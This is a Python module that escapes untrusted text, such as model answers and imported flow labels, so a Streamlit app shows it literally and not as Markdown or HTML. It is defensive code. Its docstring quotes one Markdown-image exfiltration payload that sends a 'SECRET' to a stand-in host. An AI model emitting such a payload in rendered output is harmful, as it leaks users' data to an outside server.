"""Untrusted text stays text: one place that decides how the studio shows it.

Model answers, passages, document titles, questions, imported flows (names, descriptions, labels)
and error messages that quote any of those may hold Markdown or HTML. Rendered as Markdown,
`![x](http://host/p.png?q=SECRET)` would make the browser fetch that address. So such text goes
through `text()` (st.text: no Markdown, no HTML) or, where it must sit inside Markdown (a label,
a bold title, an alert), through `escape()` / `code()`.
"""
from __future__ import annotations

import re
from typing import Any

import streamlit as st

# Every ASCII punctuation character may be backslash-escaped in CommonMark. What could fetch,
# link or inject needs one of these: `[` `]` (links, images, Streamlit's :colour[..] directives),
# `<` `>` (HTML, autolinks), `&` (entities), `$` (math), backticks (code spans that would swallow
# the escapes) and the backslash itself. Emphasis and headings are cosmetic and stay readable
# (line breaks become spaces, so no line can start a heading or a block).
_SPECIAL = re.compile(r"([\\`\[\]<>&$])")
_BACKTICKS = re.compile(r"`+")


def escape(value: object, limit: int | None = None) -> str:
    """`value` as Markdown that renders as its literal text (no link, image, HTML or markup).

    `limit` cuts the text to that many characters first (an ellipsis marks the cut). Line breaks
    become spaces: the result is for one line (labels, alerts, captions)."""
    s = "" if value is None else str(value)
    if limit is not None and len(s) > limit:
        s = s[:limit] + "…"
    s = " ".join(s.splitlines()) if ("\n" in s or "\r" in s) else s
    return _SPECIAL.sub(r"\\\1", s)


def code(value: object, limit: int | None = None) -> str:
    """`value` as an inline code span (nothing inside a code span is Markdown), fenced with more
    backticks than any run inside it."""
    s = "" if value is None else str(value)
    if limit is not None and len(s) > limit:
        s = s[:limit] + "…"
    s = " ".join(s.splitlines())
    longest = max((len(m) for m in _BACKTICKS.findall(s)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if (s.startswith("`") or s.endswith("`") or not s.strip()) else ""
    return f"{fence}{pad}{s or ' '}{pad}{fence}"


def text(value: object, container: Any = None) -> None:
    """Show `value` as plain text (st.text): line breaks kept, nothing parsed."""
    (container or st).text("" if value is None else str(value))


_BLOCK_MARK = re.compile(r"^([#>+*=|-])")
_LIST_NUMBER = re.compile(r"^(\d+)([.)])")


def quote(value: object) -> str:
    """A Markdown block quote of `value`, escaped line by line; no line can open a heading, a
    list or a nested quote (its first marker is escaped)."""
    lines = ("" if value is None else str(value)).splitlines() or [""]
    out = []
    for line in lines:
        text = escape(line).lstrip()
        text = _LIST_NUMBER.sub(r"\1\\\2", _BLOCK_MARK.sub(r"\\\1", text))
        out.append("> " + text)
    return "  \n".join(out)
